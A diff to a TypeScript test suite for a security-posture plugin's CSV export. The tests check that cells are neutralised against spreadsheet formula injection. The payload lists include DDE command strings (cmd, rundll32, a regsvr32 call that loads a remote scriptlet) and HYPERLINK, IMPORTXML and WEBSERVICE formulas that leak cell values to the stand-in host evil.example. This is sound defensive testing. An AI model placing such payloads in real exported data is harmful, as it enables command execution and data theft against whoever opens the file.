@@ -3,15 +3,28 @@ import { stringify } from 'csv-stringify/sync';
 import { Readable, Writable } from 'node:stream';
 import { pipeline } from 'node:stream/promises';
 import { Finding } from '@security-posture/plugin-security-posture-common';
-import { countsCsv, FINDING_CSV_COLUMNS, findingRow, findingsCsv, neutralizeCell } from './csv';
+import {
+  countsCsv,
+  FINDING_CSV_COLUMNS,
+  findingRow,
+  findingsCsv,
+  isFormulaLike,
+  neutralizeCell,
+  rowsCsv,
+} from './csv';
+import { publishedDataCsv } from './publishedCsv';
 
-async function collect(stream: Readable): Promise<string> {
+async function collectBytes(stream: Readable): Promise<Buffer> {
   const chunks: Buffer[] = [];
   for await (const chunk of stream) {
     chunks.push(typeof chunk === 'string' ? Buffer.from(chunk, 'utf8') : chunk);
   }
+  return Buffer.concat(chunks);
+}
+
+async function collect(stream: Readable): Promise<string> {
   // Decode once at the end: a multi-byte character may span two chunks.
-  return Buffer.concat(chunks).toString('utf8');
+  return (await collectBytes(stream)).toString('utf8');
 }
 
 function parseCsv(text: string): Record<string, string>[] {
@@ -49,9 +62,19 @@ function finding(overrides: Partial<Finding> = {}): Finding {
   };
 }
 
-// What a spreadsheet would evaluate as a formula (or DDE) when a cell starts with it.
-const RISKY = /^[=+\-@\t\r]/;
-const neutralized = (value: string) => (RISKY.test(value) ? `'${value}` : value);
+/**
+ * The test's own statement of what a spreadsheet might evaluate (OWASP CSV Injection): a cell
+ * starting with a control character (tab, CR, ...), or whose first character after whitespace,
+ * control and format characters is `=`, `+`, `-` or `@` in Unicode's compatibility form (so
+ * full-width `＝` counts as `=`). Written independently of csv.ts, which hard-codes the set.
+ */
+function risky(value: string): boolean {
+  if (/^\p{Cc}/u.test(value)) return true;
+  const rest = value.replace(/^[\s\p{Cc}\p{Cf}]+/u, '');
+  const first = rest.codePointAt(0);
+  return first !== undefined && /^[=+\-@]/.test(String.fromCodePoint(first).normalize('NFKC'));
+}
+const neutralized = (value: string) => (risky(value) ? `'${value}` : value);
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
@@ -68,6 +91,10 @@ const HOSTILE = [
   'crlf one\r\ncrlf two\r\n',
   'trailing space ',
   ' =leading space then equals',
+  '\n\n=leading newlines then equals',
+  '\uFEFF=after a byte-order mark',
+  '＝HYPERLINK("http://evil.example/","full-width")',
+  '\u3000＠SUM(1+1) after an ideographic space',
   "'already quoted",
   'emoji 🔥 and a family 👩‍👩‍👧‍👦',
   'مرحبا بالعالم \u202Eevil.exe\u202C',
@@ -184,11 +211,11 @@ describe('findingsCsv', () => {
     expect(rows).toHaveLength(findings.length);
     expect(rows).toEqual(expected);
     // The hostile values really were hostile: the neutralisation was exercised.
-    expect(rows.filter(r => r.title.startsWith("'")).length).toBeGreaterThanOrEqual(7);
+    expect(rows.filter(r => r.title.startsWith("'")).length).toBeGreaterThanOrEqual(12);
     for (const row of rows) {
       expect(Object.keys(row)).toEqual([...FINDING_CSV_COLUMNS]);
       for (const cell of Object.values(row)) {
-        expect(cell).not.toMatch(RISKY);
+        expect(risky(cell)).toBe(false);
       }
     }
   });
@@ -240,11 +267,24 @@ describe('findingsCsv', () => {
       quoted_match: /[\s,"]/,
       cast: { string: neutralizeCell },
     });
+    // Both sides neutralise with the same function (neutralizeCell is csv-stringify's cast
+    // here), so the comparison holds whatever the neutralisation rule; that rule has its own
+    // tests below. What this test pins is the hand-written writer: quoting, escaping, UTF-8
+    // across chunk ends, and the byte-order mark.
     const pages = [findings.slice(0, 1), [], findings.slice(1, 1001), findings.slice(1001)];
     expect(await collect(findingsCsv(pagesOf(...pages)))).toBe(expected);
     expect(await collect(findingsCsv(pagesOf()))).toBe(
       stringify([], { header: true, columns: [...FINDING_CSV_COLUMNS] }),
     );
+    const expectedWithBom = stringify(findings.map(findingRow), {
+      bom: true,
+      header: true,
+      columns: [...FINDING_CSV_COLUMNS],
+      quoted_match: /[\s,"]/,
+      cast: { string: neutralizeCell },
+    });
+    expect(expectedWithBom).toBe(`\uFEFF${expected}`);
+    expect(await collect(findingsCsv(pagesOf(...pages), { bom: true }))).toBe(expectedWithBom);
   });
 
   it('propagates a failure of the page source as a stream error', async () => {
@@ -427,5 +467,179 @@ describe('countsCsv', () => {
       { entityRef: "'=cmd|calc", severity: 'low', openFindings: '4' },
       { entityRef: "'=cmd|calc", severity: 'info', openFindings: '5' },
     ]);
+  });
+});
+
+/**
+ * Payloads after the OWASP CSV Injection page and the usual cheat sheets: DDE, arithmetic
+ * prefixes, functions that fetch or link, tab/CR/NUL prefixes, whitespace and format characters
+ * before a trigger, and the full-width and other compatibility forms of the triggers.
+ */
+const OWASP_PAYLOADS = [
+  "=cmd|' /C calc'!A0",
+  "=cmd|' /C notepad'!'A1'",
+  '=DDE("cmd";"/C calc";"!A0")A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '+SUM(1+1)',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "-cmd|' /C calc'!A0",
+  '@SUM(1+1)',
+  '=1+1',
+  '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click for details")',
+  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
+  '=WEBSERVICE("http://evil.example/"&A1)',
+  '=rundll32|\'URL.dll,OpenURL calc.exe\'!A',
+  '=MSEXCEL|\'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll\'!\'\'',
+  '\t=1+1',
+  '\tplain after a tab',
+  '\r=1+1',
+  '\rplain after a carriage return',
+  '\r\n=1+1',
+  '\0=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '   +SUM(1+1)',
+  '\n\n\n-2+3',
+  ' \t\r\n @SUM(1+1)',
+  '\u00A0=1+1', // no-break space
+  '\u3000=1+1', // ideographic space
+  '\u200B=1+1', // zero-width space
+  '\u202E=1+1', // right-to-left override
+  '\uFEFF=1+1', // a byte-order mark inside the cell
+  '\uFEFF\uFEFF @SUM(1+1)',
+  '＝1+1', // U+FF1D full-width equals
+  '＋SUM(1+1)', // U+FF0B full-width plus
+  '－2+3', // U+FF0D full-width hyphen-minus
+  '＠SUM(1+1)', // U+FF20 full-width commercial at
+  "＝cmd|' /C calc'!A0",
+  ' ＝1+1',
+  '\n＠SUM(1+1)',
+  '\u3000＋1',
+  '﹦1+1', // U+FE66 small equals
+  '﹢1', // U+FE62 small plus
+  '﹣1', // U+FE63 small hyphen-minus
+  '﹫SUM(1+1)', // U+FE6B small commercial at
+  '⁼1', // superscript equals
+  '₊1', // subscript plus
+  '⩵1', // NFKC "=="
+  '-1',
+  '-',
+  '=',
+  '+',
+  '@',
+];
+
+const HARMLESS = [
+  '',
+  ' ',
+  '\u3000',
+  'plain',
+  'a=b',
+  '1+1',
+  '2-1',
+  'user@example.com',
+  'component:default/svc',
+  "'=already neutralised",
+  'é=1',
+  '−1', // U+2212 minus sign: not a trigger in any form
+  '‐1', // U+2010 hyphen
+  'x\n=1+1', // a trigger after a newline inside the cell stays inside the quoted cell
+  'a,=1+1',
+];
+
+describe('neutralizeCell', () => {
+  it.each(OWASP_PAYLOADS.map(p => [JSON.stringify(p), p]))('neutralises %s', (_, payload) => {
+    expect(risky(payload)).toBe(true); // the payload list itself is right
+    expect(isFormulaLike(payload)).toBe(true);
+    expect(neutralizeCell(payload)).toBe(`'${payload}`);
+  });
+
+  it.each(HARMLESS.map(p => [JSON.stringify(p), p]))('leaves %s as it is', (_, value) => {
+    expect(risky(value)).toBe(false);
+    expect(neutralizeCell(value)).toBe(value);
+  });
+
+  it('neutralises every character whose compatibility form is a trigger, after any prefix', () => {
+    const misses: string[] = [];
+    const prefixes = ['', ' ', '\n', '\t', '\uFEFF', '\u3000', '\u200B\u00A0'];
+    for (let code = 0; code <= 0x10ffff; code++) {
+      if (code >= 0xd800 && code <= 0xdfff) continue;
+      const char = String.fromCodePoint(code);
+      for (const prefix of code < 0x10000 ? prefixes : ['']) {
+        const value = `${prefix}${char}1`;
+        if (neutralizeCell(value) !== neutralized(value)) misses.push(JSON.stringify(value));
+      }
+    }
+    expect(misses).toEqual([]);
+  });
+
+  it('takes linear time on long runs of leading whitespace', () => {
+    const started = Date.now();
+    expect(neutralizeCell(`${' \u200B'.repeat(1_000_000)}x`)).toMatch(/^ /);
+    expect(neutralizeCell(`${' \u200B'.repeat(1_000_000)}=`)).toMatch(/^' /);
+    expect(Date.now() - started).toBeLessThan(2000);
+  });
+
+  it('neutralises every payload in every export, which parses back to the quoted payload', async () => {
+    const findings = OWASP_PAYLOADS.map((payload, i) =>
+      finding({ fingerprint: `fp-${i}`, title: payload, message: payload, remediation: payload }),
+    );
+    const rows = parseCsv(await collect(findingsCsv(pagesOf(findings.slice(0, 10), findings.slice(10)))));
+    expect(rows.map(r => [r.title, r.message, r.remediation])).toEqual(
+      OWASP_PAYLOADS.map(p => [`'${p}`, `'${p}`, `'${p}`]),
+    );
+
+    const table = parseCsv(
+      await collect(rowsCsv(['value'], OWASP_PAYLOADS.map(value => ({ value })))),
+    );
+    expect(table.map(r => r.value)).toEqual(OWASP_PAYLOADS.map(p => `'${p}`));
+
+    for (const payload of OWASP_PAYLOADS) {
+      const counts = parseCsv(
+        await collect(countsCsv(payload, { critical: 1, high: 0, medium: 0, low: 0, info: 0 })),
+      );
+      expect(counts[0].entityRef).toBe(`'${payload}`);
+    }
+  });
+});
+
+describe('byte-order mark', () => {
+  const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
+  const counts = { critical: 1, high: 2, medium: 0, low: 4, info: 5 };
+  const exports: Record<string, (options?: { bom?: boolean }) => Readable> = {
+    findingsCsv: options =>
+      findingsCsv(
+        pagesOf(
+          [finding({ title: 'Zugangsschlüssel – 鍵 🔑' })],
+          [],
+          Array.from({ length: 3000 }, (_, i) => finding({ fingerprint: `fp-${i}`, message: 'ü'.repeat(i % 50) })),
+        ),
+        options,
+      ),
+    findingsCsvEmpty: options => findingsCsv(pagesOf(), options),
+    countsCsv: options => countsCsv('component:default/café', counts, options),
+    rowsCsv: options => rowsCsv(['name', 'note'], [{ name: 'Ærø', note: '=1' }], options),
+    publishedDataCsv: options =>
+      publishedDataCsv('plugins/inventory', 'inventory', { packages: [{ name: 'ö' }] }, options)!,
+  };
+
+  it.each(Object.keys(exports))('%s writes exactly one mark at the start with bom: true', async name => {
+    const withBom = await collectBytes(exports[name]({ bom: true }));
+    const without = await collectBytes(exports[name]());
+    expect(withBom.subarray(0, 3)).toEqual(BOM);
+    expect(withBom.indexOf(BOM, 3)).toBe(-1);
+    expect(withBom.toString('utf8').split('\uFEFF')).toHaveLength(2);
+    expect(withBom.subarray(3)).toEqual(without);
+    // Parsers that know the mark read the same rows with and without it.
+    expect(parse(withBom, { columns: true, bom: true })).toEqual(parse(without, { columns: true }));
+  });
+
+  it.each(Object.keys(exports))('%s writes no mark by default or with bom: false', async name => {
+    for (const options of [undefined, {}, { bom: false }]) {
+      const bytes = await collectBytes(exports[name](options));
+      expect(bytes.indexOf(BOM)).toBe(-1);
+      expect(bytes.length).toBeGreaterThan(0);
+    }
   });
 });
